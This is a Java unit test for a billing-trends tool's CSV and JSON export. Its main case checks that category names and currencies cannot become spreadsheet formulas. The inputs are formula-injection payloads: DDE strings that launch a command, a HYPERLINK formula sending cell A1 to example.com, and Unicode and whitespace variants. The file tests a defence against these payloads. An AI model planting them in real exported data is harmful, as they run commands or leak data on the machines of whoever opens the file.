package dev.glidepath.trends;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import de.siegmar.fastcsv.reader.NamedCsvRecord;

import dev.glidepath.core.plan.Plan;
import dev.glidepath.trends.format.OverviewJson;
import dev.glidepath.trends.format.TrendCsv;
import dev.glidepath.trends.overview.Overview;
import dev.glidepath.trends.overview.Overviews;
import dev.glidepath.trends.series.Grain;
import dev.glidepath.trends.series.Question;
import dev.glidepath.trends.series.Scope;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import java.util.SplittableRandom;

class FormatsTest {

    private static final LocalDate MAY = LocalDate.of(2026, 5, 1);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "=cmd|' /C calc'!A0",
                "=HYPERLINK(\"http://example.com/\"&A1,\"more\")",
                "+1",
                "-1",
                "-2+3+cmd|' /C calc'!A0",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tplain",
                "\rplain",
                "\nplain",
                "  =1+1",
                "\u00a0=1+1",
                "＝1+1",
                "＋1",
                "－1",
                "＠SUM(1)",
                "\ufeff=1+1",
                "\"=1+1",
                "a,\"\r\n=1+1",
            })
    void noTextIsAFormula(String name) {
        var plan = Bills.plan(name);
        var rows = rows(csv(new Bills().daily(MAY, MAY, name, "-4.50"), plan));
        var cell = rows.getFirst().getField("name");
        assertThat(cell).endsWith(name);
        assertThat(cell).doesNotContainPattern("\\A[\\s\\u00a0\\ufeff]*[=+\\-@＝＋－＠]");
        assertThat(cell).doesNotContainPattern("\\A[\\t\\r\\n]");
        assertThat(rows.getFirst().getField("cost")).isEqualTo("-4.5");
        assertThat(rows).hasSize(3);
    }

    @Test
    void noCurrencyIsAFormula() {
        var bills =
                new Bills()
                        .charge(MAY, "Support", "Usage", "USD", "1")
                        .charge(MAY, "Support", "Usage", "=1+1", "2");
        assertThat(rows(csv(bills, plan())))
                .filteredOn(r -> r.getField("kind").equals("other_currency"))
                .extracting(r -> r.getField("currency"))
                .containsExactly("'=1+1");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Support", "R&D - core", "a=b", "Ünïcode", "1st", "'quoted'"})
    void harmlessTextStaysAsItIs(String name) {
        var bills = new Bills().daily(MAY, MAY, name, "1");
        assertThat(rows(csv(bills, Bills.plan(name))).getFirst().getField("name")).isEqualTo(name);
    }

    @Test
    void theColumnsAreTheseInThisOrder() {
        var csv = csv(new Bills().daily(MAY, MAY, "Support", "1"), plan());
        assertThat(csv)
                .startsWith(
                        "kind,name,period,from,through,days,known_days,settled_days,complete,currency,"
                                + "metric,cost,allowed,gap,provisional\r\n"
                                + "category,Support,2026-05-01,2026-05-01,2026-05-01,1,1,1,true,USD,"
                                + "effective,1,");
    }

    @Test
    void unknownIsEmptyInCsvAndNullInJson() {
        var bills =
                new Bills()
                        .daily(MAY, MAY.plusDays(2), "Infrastructure", "1")
                        .charge(MAY, "Support", "Usage", "USD", null);
        var overview = overview(bills, plan());
        assertThat(rows(TrendCsv.of(overview)).getFirst().getField("cost")).isEmpty();
        var json = OverviewJson.of(overview);
        assertThat(json.at("/series/0/points/0/cost").isNull()).isTrue();
        assertThat(json.at("/periods/0/unpricedRows").asLong()).isEqualTo(1);
    }

    @Test
    void otherCurrenciesAndWhatIsNotCountedStandApart() {
        var bills =
                new Bills()
                        .charge(MAY, "Support", "Usage", "USD", "1")
                        .charge(MAY, "Support", "Usage", "EUR", "2.50")
                        .charge(MAY, "Support", "Tax", "USD", "0.1");
        var overview = overview(bills, plan());
        assertThat(rows(TrendCsv.of(overview)))
                .extracting(r -> r.getField("kind") + " " + r.getField("name"))
                .containsExactly(
                        "category Support",
                        "unallocated Unallocated",
                        "total Total",
                        "not_counted Tax",
                        "other_currency ");
        var period = OverviewJson.of(overview).at("/periods/0");
        assertThat(period.at("/otherCurrencies/EUR").asText()).isEqualTo("2.5");
        assertThat(period.at("/notCounted/Tax").asText()).isEqualTo("0.1");
    }

    @Test
    void csvAndJsonSayTheSameNumbers() {
        var question =
                new Question(Optional.empty(), Optional.empty(), Grain.WEEK, new Scope.All());
        var overview =
                new Overviews(Bills.random(new SplittableRandom(8)).recorded(), plan())
                        .overview(question, Bills.AS_OF);
        var total = OverviewJson.of(overview).at("/total/points");
        var rows =
                rows(TrendCsv.of(overview)).stream()
                        .filter(r -> r.getField("kind").equals("total"))
                        .toList();
        assertThat(rows).hasSize(16);
        for (int i = 0; i < rows.size(); i++) {
            for (var column : List.of("period", "cost", "allowed", "gap")) {
                assertThat(total.get(i).path(column).asText(""))
                        .isEqualTo(rows.get(i).getField(column));
            }
            assertThat(total.get(i).path("cost").isTextual()).isTrue();
        }
    }

    private static Plan plan() {
        return Bills.plan("Support");
    }

    private static Overview overview(Bills bills, Plan plan) {
        var question = new Question(Optional.of(MAY), Optional.of(MAY), Grain.DAY, new Scope.All());
        return new Overviews(bills.recorded(), plan).overview(question, Bills.AS_OF);
    }

    private static String csv(Bills bills, Plan plan) {
        return TrendCsv.of(overview(bills, plan));
    }

    private static List<NamedCsvRecord> rows(String csv) {
        return CsvReader.builder().ofNamedCsvRecord(csv).stream().toList();
    }
}
